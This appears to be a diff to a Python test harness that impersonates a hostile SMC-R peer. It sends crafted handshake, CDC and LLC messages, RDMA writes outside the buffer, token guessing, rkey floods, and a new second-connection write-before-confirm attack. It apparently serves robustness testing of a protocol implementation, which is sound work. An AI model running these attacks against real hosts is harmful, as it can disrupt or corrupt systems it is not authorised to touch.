@@ -19,15 +19,14 @@ EID = b"SMC-AGENT.DEFAULT".ljust(32)
 PEER_ID = os.urandom(8)  # a stranger each time
 PATTERN = bytes(i * 7 % 251 for i in range(16))  # as in peer.py
 TOKEN = 0xBADC0DE
-SIZE = 256 * 1024
 
 
 class Tcp:
-    def __init__(self, device, own, server, port):
+    def __init__(self, device, own, server, port, number=0):
         self.wire = rawtcp.Wire(device, own)
         self.wire.learn(server)
         peer = rawtcp.socket.inet_aton(server)
-        self.key = (peer, port, 40000 + os.getpid() % 20000)
+        self.key = (peer, port, 40000 + os.getpid() % 20000 + number)
         self.connection = rawtcp.Connection(self.wire, peer, self.key[2], port, {})
         self.connection.out(rawtcp.SYN, bytes.fromhex(rawtcp.SMC_OPTION))
 
@@ -68,7 +67,7 @@ def clc(kind, body):
 def proposal(gid, mac):
     base = bytearray(80)
     base[0:4], base[4] = SMCR, 1
-    base[7] = 0x22 & 0xf0 | 0x02  # version 2; SMC-Rv2, no version 1
+    base[7] = 0x22  # version 2; SMC-Rv2, no version 1
     base[8:16], base[32:38] = PEER_ID, mac
     struct.pack_into("!H", base, 50, 80 - 52)
     v2 = bytearray(40)
@@ -78,19 +77,19 @@ def proposal(gid, mac):
     return message[:5] + struct.pack("!H", len(message)) + message[7:]
 
 
-def confirm(gid, mac, qpn, psn, rkey, address, mtu):
+def confirm(gid, mac, qpn, psn, rkey, address, mtu, first=True, index=1, token=TOKEN):
     body = bytearray(104)
-    body[0:4], body[4], body[7] = SMCR, 3, 0x28
+    body[0:4], body[4], body[7] = SMCR, 3, 0x28 if first else 0x20
     body[8:16], body[16:32], body[32:38] = PEER_ID, gid, mac
     body[38:41] = struct.pack("!I", qpn)[1:]
-    struct.pack_into("!IBI", body, 41, rkey, 1, TOKEN)
-    body[50] = 4 << 4 | mtu
+    struct.pack_into("!IBI", body, 41, rkey, index, token)
+    body[50] = mtu  # RMBEs of 16 KiB
     struct.pack_into("!Q", body, 52, address)
     body[61:64] = struct.pack("!I", psn)[1:]
     body[64:96] = EID
     fce = bytearray(52)
     fce[0], fce[1], fce[4:36], fce[36], fce[37] = 0x80, 0x21, b"hostile".ljust(32), 255, 1
-    message = bytes(body) + bytes(fce) + struct.pack("!I", 1 << 24) + gid + SMCR
+    message = bytes(body) + (bytes(fce) + struct.pack("!I", 1 << 24) + gid if first else b"") + SMCR
     return message[:5] + struct.pack("!H", len(message)) + message[7:]
 
 
@@ -109,7 +108,7 @@ class Hostile:
             raise SystemExit("no TCP connection")
         self.sequence = 0
 
-    def first_contact(self, qpn=None, gid=None):
+    def first_contact(self, qpn=None):
         self.tcp.send(proposal(self.gid, self.mac))
         a = self.tcp.receive(160)
         if a[4] != 2:
@@ -120,7 +119,7 @@ class Hostile:
         answer = self.roce.ask("connect", a[16:32].hex(), a[32:38].hex(), a[38:41].hex(), a[61:64].hex(), a[50] & 15)
         if answer != "ok":
             raise SystemExit(answer)
-        self.tcp.send(confirm(gid or self.gid, self.mac, self.qpn if qpn is None else qpn, self.psn, self.rkey, self.address,
+        self.tcp.send(confirm(self.gid, self.mac, self.qpn if qpn is None else qpn, self.psn, self.rkey, self.address,
                               a[50] & 15))
 
     def link_up(self):
@@ -133,6 +132,22 @@ class Hostile:
         reply[4:10], reply[10:26] = self.mac, self.gid
         reply[26:29] = struct.pack("!I", self.qpn)[1:]
         self.roce.send(bytes(reply))
+
+    def second_connection(self, arguments):
+        """On the same link. Its first bytes are there before its Confirm (RFC 7609 section 3.5.2.4)."""
+        device, own, _, server, port = arguments
+        tcp = Tcp(device, own, server, int(port) + 1, 1)
+        tcp.pump(lambda: tcp.connection.established)
+        tcp.send(proposal(self.gid, self.mac))
+        a = tcp.receive(108)
+        rkey, index, token = struct.unpack_from("!IBI", a, 41)
+        rmbe = struct.unpack_from("!Q", a, 52)[0] + (index - 1) * (16384 << (a[50] >> 4))
+        self.roce.ask("write", f"{rkey:x}", f"{rmbe:x}", PATTERN[:10].hex())
+        self.sequence = 0
+        self.cdc(token=token, producer=(0, 5))
+        time.sleep(0.5)
+        tcp.send(confirm(self.gid, self.mac, self.qpn, self.psn, self.rkey, self.address, a[50] & 15, False, 2, TOKEN + 1))
+        return tcp, token
 
     def cdc(self, token=None, producer=(0, 0), consumer=(0, 0), flags=0, state=0, length=44):
         self.sequence += 1
@@ -153,6 +168,16 @@ def main(attack, *arguments):
     h.write(PATTERN[:5])
     h.cdc(producer=(0, 5))
     time.sleep(0.3)
+    if attack == "one-of-two":
+        tcp, token = h.second_connection(arguments[1:])
+        h.sequence = 1
+        h.cdc(producer=(0, h.peer_size))
+        h.tcp.pump(lambda: h.tcp.connection.ended != "open")
+        h.sequence = 1
+        h.cdc(token=token, producer=(0, 10))
+        time.sleep(0.5)
+        print(h.tcp.connection.ended, tcp.connection.ended)
+        return
     attacks = {
         "llc-type": lambda: h.roce.send(llc(0x0F)),
         "llc-length": lambda: h.roce.send(llc(7)[:20]),
@@ -165,7 +190,7 @@ def main(attack, *arguments):
         "foreign-rkey": lambda: h.write(b"x", rkey=h.peer_rkey ^ 0x55),
         "outside-rmb": lambda: h.write(b"x" * 64, at=1 << 40),
         "unknown-token": lambda: [h.cdc(token=h.peer_token ^ n, producer=(0, 9)) for n in range(1, 50)],
-        "rkey-flood": lambda: [h.roce.send(llc(6, struct.pack("!BIQ", 0, n, n))) for n in range(1, 200)],
+        "rkey-flood": lambda: [h.roce.send(llc(6, struct.pack("!BIQ", 0, n, n))) for n in range(1, 300)],
         "test-flood": lambda: [h.roce.send(llc(7, b"flood")) for _ in range(200)],
     }
     attacks[attack]()
